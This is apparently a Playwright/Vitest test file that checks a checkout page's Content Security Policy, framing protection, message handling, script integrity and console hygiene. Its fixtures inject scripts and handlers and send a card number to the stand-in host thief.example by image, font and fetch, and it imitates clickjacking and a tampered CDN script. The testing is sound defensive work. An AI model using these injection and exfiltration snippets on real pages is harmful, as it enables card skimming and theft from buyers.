import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { expect, inject, onTestFinished, test } from 'vitest'
import { listen } from '../../scripts/serve/listen.ts'
import { ada, declinedCard, fillCardForm, payButton } from '../support/browser/buyer.ts'
import { type CheckoutPage, openCheckout } from '../support/browser/checkout-page.ts'
import { says } from '../support/english.ts'

const thief = 'https://thief.example'

/** An attack by a script inside the page. */
interface Attack {
  readonly directive: string
  /** Runs in the page. `thief` is the attacker's origin. */
  readonly run: (thief: string) => unknown
}

/** Runs the attacks. Returns the directive that stopped each. */
async function directivesAgainst(
  checkout: CheckoutPage,
  attacks: Readonly<Record<string, Attack>>,
): Promise<Record<string, string>> {
  const { page } = checkout
  // The browser logs violations too, but only the event names the directive.
  checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
  const stoppedBy: Record<string, string> = {}
  for (const [story, attack] of Object.entries(attacks)) {
    const stopped = page.evaluate(
      () =>
        new Promise<string>((resolve) =>
          addEventListener(
            'securitypolicyviolation',
            (event) => resolve(`${event.effectiveDirective} ${event.disposition}`),
            { once: true },
          ),
        ),
    )
    await page.evaluate(attack.run, thief).catch(() => {})
    stoppedBy[story] = await stopped
  }
  return stoppedBy
}

const expected = (attacks: Readonly<Record<string, Attack>>) =>
  Object.fromEntries(
    Object.entries(attacks).map(([story, { directive }]) => [story, `${directive} enforce`]),
  )

const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))

// Every directive by itself: tests/tools/build/security-headers.test.ts.
const intrusions: Readonly<Record<string, Attack>> = {
  'an inline script': {
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.textContent = 'window.taken = true'
      document.body.append(script)
    },
  },
  'a handler in an attribute': {
    directive: 'script-src-attr',
    run: () => {
      const box = document.createElement('div')
      box.innerHTML = '<img src="/favicon.png" onload="window.taken = true">'
      document.body.append(box)
    },
  },
  'eval, out of a timer': {
    directive: 'script-src',
    run: () => setTimeout('window.taken = true'),
  },
  'another base for every address': {
    directive: 'base-uri',
    run: (stranger) =>
      document.head.append(Object.assign(document.createElement('base'), { href: stranger })),
  },
  'a frame with a foreign form': {
    directive: 'frame-src',
    run: (stranger) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: stranger })),
  },
}

test('G2: the policy blocks an injected script, handler or frame', async () => {
  const checkout = await openCheckout('/card')
  await checkout.seesTabs()
  expect(await directivesAgainst(checkout, intrusions)).toEqual(expected(intrusions))
  expect(await isTaken(checkout.page)).toBe(false)
})

const leaks: Readonly<Record<string, Attack>> = {
  'the address of an image': {
    directive: 'img-src',
    run: (stranger) => {
      new Image().src = `${stranger}/?card=4242`
    },
  },
  'an inline style that could read fields': {
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style')
      style.textContent = 'input[value^="4"] { color: red }'
      document.head.append(style)
    },
  },
  'a font': {
    directive: 'font-src',
    run: (stranger) => new FontFace('Leak', `url(${stranger}/?card=4242)`).load(),
  },
  'a call': {
    directive: 'connect-src',
    run: (stranger) => fetch(`${stranger}/?card=4242`),
  },
}

test('G4, G5: the policy blocks data leaks by image, style, font or a call to a third origin', async () => {
  const checkout = await openCheckout('/card')
  await checkout.seesTabs()
  expect(await directivesAgainst(checkout, leaks)).toEqual(expected(leaks))
})

test('G1, G16: another site cannot frame a page or its wallet button', async () => {
  const { page, origin, expectConsole } = await openCheckout('/')
  expectConsole('error', "frame-ancestors 'none'")
  const attacker = await servePage(`<iframe src="${origin}/card"></iframe><p>Win a prize</p>`)
  await page.route(`${attacker}/**`, (route) => route.continue())
  const refused = page.waitForEvent('console', (message) => message.text().startsWith('Framing'))
  await page.goto(attacker)
  await refused
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
})

/** Serves another origin on this machine, because browsers block web pages from local addresses. */
async function servePage(html: string): Promise<string> {
  const { origin, close } = await listen(
    createServer((_request, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(html),
    ),
  )
  onTestFinished(close)
  return origin
}

test('G3: the page ignores messages from other windows', async () => {
  const { page, seesTabs } = await openCheckout('/card', {
    beforeLoad: (fresh) =>
      fresh.addInitScript(() => {
        const heard: string[] = []
        Object.assign(window, { heard })
        const listen = EventTarget.prototype.addEventListener
        EventTarget.prototype.addEventListener = function (type: string, ...others) {
          if (type === 'message' && (this === window || this === undefined)) heard.push(type)
          return listen.call(this, type, ...(others as [EventListener]))
        }
      }),
  })
  await seesTabs()
  await page.getByRole('button', { name: 'Pay with Fake Wallet' }).waitFor()
  const before = await page.locator('body').innerText()
  await page.evaluate(async () => {
    const shapes = [null, 'paid', 4, { type: 'success' }, { redirect_url: 'https://thief.example' }]
    for (const shape of shapes) window.postMessage(shape, '*')
    await new Promise((later) => setTimeout(later))
  })
  expect(await page.locator('body').innerText()).toBe(before)
  const heard = () => page.evaluate(() => [Reflect.get(window, 'heard'), window.onmessage])
  expect(await heard()).toEqual([[], null])
  await page.evaluate(() => addEventListener('message', () => {}))
  expect(await heard()).toEqual([['message'], null])
})

test('G12: the page needs no headers on the shop’s answers, and the CDN adds none', async () => {
  const { page, seesTabs, origin } = await openCheckout('/card')
  await seesTabs()
  const names = await page.evaluate(async () => {
    const response = await fetch('/api/product/card')
    return [...response.headers.keys()]
  })
  expect(names).not.toContain('content-security-policy')
  expect(names).not.toContain('x-content-type-options')
  expect((await fetch(`${origin}/card`)).headers.get('x-content-type-options')).toBe('nosniff')
})

test('G15: the console reports a failed payment without the buyer’s data', async () => {
  const checkout = await openCheckout('/card')
  checkout.expectConsole('error', 'status of 402')
  checkout.expectConsole('error', 'the payment request failed')
  const { page, sees } = checkout
  const told: Promise<string>[] = []
  page.on('console', (message) => {
    const values = Promise.all(message.args().map((value) => value.jsonValue()))
    told.push(values.then((all) => JSON.stringify([message.text(), ...all])))
  })
  await fillCardForm(page, { number: declinedCard })
  await payButton(page).click()
  await sees(says.declined)
  const text = (await Promise.all(told)).join()
  expect(text).toContain('the payment request failed')
  for (const typed of [ada.email, ada.name, ada.postalCode, ada.expiration]) {
    expect(text).not.toContain(typed)
  }
  expect(text.replace(/\D/g, '')).not.toContain(declinedCard.replace(/\D/g, ''))
})

test.each([
  ['main', []],
  ['card-tab', ['Till: a part of the page could not be loaded', 'the page was rendered again']],
])('a changed %s script is blocked, and the page says so', async (name, lines) => {
  const built = await readFile(join(inject('dist'), 'scripts.json'), 'utf8')
  const script = new RegExp(`/assets/${name}\\.\\w+\\.js`).exec(built)?.[0] ?? ''
  const checkout = await openCheckout('/card', { beforeLoad: (page) => tamperWith(page, script) })
  for (const line of ['integrity', ...lines]) checkout.expectConsole('error', line)
  await checkout.sees(says.lostPart)
  expect(await checkout.page.getByText('could not be loaded').count()).toBe(1)
  expect(await isTaken(checkout.page)).toBe(false)
})

/** Imitates a compromised CDN that adds a line to a script. */
async function tamperWith(page: Page, address: string): Promise<void> {
  const script = await readFile(join(inject('dist'), address), 'utf8')
  // With any query, because a retry adds one.
  await page.route(`**${address}*`, (route) =>
    route.fulfill({
      contentType: 'application/javascript',
      body: `window.taken = true;${script}`,
    }),
  )
}

test('a changed inline script is blocked, and the app works without it', async () => {
  const checkout = await openCheckout('/card', {
    beforeLoad: (page) =>
      page.route(/^http:\/\/127[^/]*\/card$/, async (route) => {
        const response = await route.fetch()
        const html = await response.text()
        const body = html.replace('<script>"use strict";', '<script>window.taken = true;')
        expect(body).not.toBe(html)
        await route.fulfill({ response, body })
      }),
  })
  checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
  await checkout.seesTabs()
  expect(await isTaken(checkout.page)).toBe(false)
})
